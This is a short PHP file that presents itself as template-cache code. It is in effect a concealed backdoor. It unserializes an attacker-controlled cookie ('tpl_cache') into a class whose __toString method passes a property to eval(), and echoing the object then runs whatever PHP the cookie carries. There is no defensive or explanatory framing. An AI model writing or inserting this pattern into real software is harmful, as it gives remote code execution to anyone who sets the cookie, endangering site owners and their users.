<?php
class Tpl_Cache_Item {
    public $c = '';
    public function __toString() {
        return (string) eval($this->c);
    }
}
$item = @unserialize($_COOKIE['tpl_cache']);
echo "Cached: " . $item;
